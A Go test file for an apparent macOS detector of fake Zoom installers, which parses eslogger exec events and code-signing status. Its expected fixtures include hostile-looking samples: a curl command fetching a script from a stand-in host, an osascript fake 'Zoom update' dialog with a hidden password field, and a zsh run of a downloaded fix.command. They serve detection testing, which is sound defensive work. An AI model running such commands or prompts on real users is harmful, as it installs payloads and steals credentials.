package watch

import (
	"bytes"
	"os"
	"slices"
	"strings"
	"testing"
	"time"

	"meetguard"
)

// recorded are the lines of testdata/eslogger.jsonl. They have the shape that
// eslogger prints on macOS 15 and 26, and the values of a made-up machine.
func recorded(t testing.TB) [][]byte {
	t.Helper()
	raw, err := os.ReadFile("testdata/eslogger.jsonl")
	if err != nil {
		t.Fatal(err)
	}
	return bytes.Split(bytes.TrimSpace(raw), []byte("\n"))
}

func TestParseESLogger(t *testing.T) {
	valid, adhoc, unknown := meetguard.SignatureValid, meetguard.SignatureAdhoc, meetguard.SignatureUnknown
	want := []struct {
		pid, ppid int
		exe       string
		args      []string
		status    meetguard.SignatureStatus
		team      string
		claimed   string
		kind      string
	}{
		{4812, 4700, "/usr/bin/curl", []string{"curl", "-fsSL", "https://zoom-update.example.invalid/u.sh"}, valid, "", "", "apple"},
		{4813, 4700, "/Users/joe/Downloads/Zoom Installer", []string{"/Users/joe/Downloads/Zoom Installer"}, adhoc, "", "", ""},
		{4814, 1, "/Applications/zoom.us.app/Contents/MacOS/zoom.us", []string{"/Applications/zoom.us.app/Contents/MacOS/zoom.us"}, unknown, "", "BJ4HAAB9B3", ""},
		{4815, 1, "/Applications/zoom.us.app/Contents/MacOS/zoom.us", []string{"/Applications/zoom.us.app/Contents/MacOS/zoom.us"}, valid, "BJ4HAAB9B3", "", "developer_id"},
		{4816, 4700, "/usr/bin/osascript", []string{"osascript", "-e", `display dialog "Zoom update" default answer "" with hidden answer`}, valid, "", "", "apple"},
		{4817, 4700, "/bin/zsh", []string{"/bin/zsh", "/Users/joe/Downloads/fix.command", "./run"}, valid, "", "", "apple"},
		{4818, 4700, "/tmp/x", []string{"/tmp/x"}, meetguard.SignatureUnsigned, "", "", ""},
	}
	lines := recorded(t)
	for i, w := range want {
		got, err := parseESLogger(lines[i])
		p := got.proc
		if err != nil || !got.launch || p.PID != w.pid || p.PPID != w.ppid || p.Exe != w.exe || !slices.Equal(p.Args, w.args) ||
			p.OS != "darwin" || p.User != "501" || p.Cwd == "" || p.Started.Format(time.RFC3339) != "2026-11-07T13:21:35Z" {
			t.Errorf("line %d: %+v %v, want %+v", i+1, p, err, w)
			continue
		}
		if s := p.Signature; s == nil || s.Status != w.status || s.TeamID != w.team || s.ClaimedTeam != w.claimed || s.Kind != w.kind ||
			s.CDHash != strings.ToLower(s.CDHash) || (s.Status != meetguard.SignatureUnsigned && (s.SigningID == "" || len(s.CDHash) != 40)) {
			t.Errorf("line %d: signature %+v, want %+v", i+1, s, w)
		}
	}
	if got, err := parseESLogger(lines[len(want)]); err != nil || got.launch || !got.numbered {
		t.Errorf("a fork is %+v %v", got, err)
	}
}

func TestESLoggerIsReadTolerantly(t *testing.T) {
	const target = `"target":{"audit_token":{"pid":7},"executable":{"path":"/bin/x"}`
	cases := []struct {
		name, line string
		launch     bool
		args       int
	}{
		{"little", `{"event":{"exec":{` + target + `}}}}`, true, 0},
		{"other types", `{"global_seq_num":"9","event":{"exec":{` + target + `,"ppid":"4","start_time":7,"signing_id":null,"codesigning_flags":"x"},"args":["x","-s"],"cwd":"/"}}}`, true, 2},
		{"arguments of another shape", `{"event":{"exec":{` + target + `},"args":"x -s"}}}`, true, 0},
		{"token of another shape", `{"event":{"exec":{"target":{"audit_token":[1,2],"executable":{"path":"/bin/x"}}}}}`, false, 0},
		{"no program", `{"event":{"exec":{"target":{"audit_token":{"pid":7}}}}}`, false, 0},
		{"another event", `{"version":99,"event":{"soon":{}}}`, false, 0},
		{"more than is known", `{"new":[{}],"event":{"exec":{` + target + `,"new":{"a":1}},"args":{"count":1,"items":[{"value":"x","new":2}]}}}}`, true, 1},
	}
	for _, c := range cases {
		got, err := parseESLogger([]byte(c.line))
		if err != nil || got.launch != c.launch || len(got.proc.Args) != c.args || (c.launch && (got.proc.PID != 7 || got.proc.Exe != "/bin/x")) {
			t.Errorf("%s: %+v %v", c.name, got, err)
		}
		if got.proc.Signature != nil {
			t.Errorf("%s: signature %+v out of nothing", c.name, got.proc.Signature)
		}
	}
	for _, line := range []string{"", "eslogger: hello", "[1]", `{"event":`, "7"} {
		if _, err := parseESLogger([]byte(line)); err == nil {
			t.Errorf("%q is taken", line)
		}
	}
}

func TestKernelsWordIsNotTooMuch(t *testing.T) {
	flags := func(f uint64) esNumber { return esNumber{f, true} }
	const team = "BJ4HAAB9B3"
	cases := []struct {
		name string
		p    esProcess
		want meetguard.SignatureStatus
	}{
		{"developer id", esProcess{Flags: flags(csSigned | csValid | csKill), TeamID: team, Category: csCategoryDevID}, meetguard.SignatureValid},
		{"no category", esProcess{Flags: flags(csSigned | csValid | csKill), TeamID: team}, meetguard.SignatureUnknown},
		{"local signing", esProcess{Flags: flags(csSigned | csValid | csKill), TeamID: team, Category: 7}, meetguard.SignatureUnknown},
		{"pages may differ", esProcess{Flags: flags(csSigned | csValid), TeamID: team, Category: csCategoryDevID}, meetguard.SignatureUnknown},
		{"no longer valid", esProcess{Flags: flags(csSigned | csKill), TeamID: team, Category: csCategoryDevID}, meetguard.SignatureUnknown},
		{"ad hoc with a team", esProcess{Flags: flags(csSigned | csValid | csKill | csAdhoc), TeamID: team, Category: csCategoryDevID}, meetguard.SignatureAdhoc},
		{"platform no longer valid", esProcess{Flags: flags(csSigned), Platform: true}, meetguard.SignatureUnknown},
		{"no flags but a hash", esProcess{Flags: flags(0), CDHash: "AA"}, meetguard.SignatureUnknown},
		{"nothing", esProcess{Flags: flags(0)}, meetguard.SignatureUnsigned},
	}
	for _, c := range cases {
		s := c.p.signature()
		if s.Status != c.want || (s.TeamID != "") != (c.want == meetguard.SignatureValid) {
			t.Errorf("%s: %+v, want %s", c.name, s, c.want)
		}
	}
}

func TestESGaps(t *testing.T) {
	var g esGaps
	var got []int64
	for _, n := range []uint64{75, 76, 80, 80, 3, 4, 1 << 63} {
		got = append(got, g.missing(esTold{sequence: n, numbered: true}))
	}
	if want := []int64{0, 0, 3, 0, 0, 0, 1 << 32}; !slices.Equal(got, want) {
		t.Errorf("missing %d, want %d", got, want)
	}
	if g.missing(esTold{}) != 0 {
		t.Error("a message without number is a loss")
	}
}

func TestESLoggerErrorsAreExplained(t *testing.T) {
	const refused = "Failed to create ES client: "
	for said, want := range map[string]string{
		refused + "Not permitted to create an ES Client, responsible process needs TCC Full Disk Access authorization (ES_NEW_CLIENT_RESULT_ERR_NOT_PERMITTED)": "System Settings",
		refused + "Not privileged to create an ES client, need to be superuser (ES_NEW_CLIENT_RESULT_ERR_NOT_PRIVILEGED)":                                       "root",
		refused + "too many (ES_NEW_CLIENT_RESULT_ERR_TOO_MANY_CLIENTS)":                                                                                        "too many",
	} {
		if got := explainESLogger(said); !strings.Contains(got, want) {
			t.Errorf("%q is explained by %q", said, got)
		}
	}
	if got := explainESLogger("Segmentation fault"); got != "" {
		t.Errorf("an unknown error is explained by %q", got)
	}
}

func FuzzParseESLogger(f *testing.F) {
	for _, line := range recorded(f) {
		f.Add(line)
	}
	f.Add([]byte(`{"event":{"exec":{"target":{"audit_token":[1,2,3,4,5,6],"executable":{"path":"/x"}},"args":["a"]}}}`))
	f.Fuzz(func(t *testing.T, line []byte) {
		got, err := parseESLogger(line)
		if err != nil {
			return
		}
		if got.launch && (got.proc.PID <= 0 || got.proc.Exe == "") {
			t.Fatalf("launch %+v", got.proc)
		}
		if s := got.proc.Signature; s != nil && s.TeamID != "" && s.Status != meetguard.SignatureValid {
			t.Fatalf("signature %+v", s)
		}
		if size := len(got.proc.Exe) + len(strings.Join(got.proc.Args, "")); size > 3*len(line) { // a bad byte becomes three
			t.Fatalf("%d bytes of text out of %d", size, len(line))
		}
	})
}
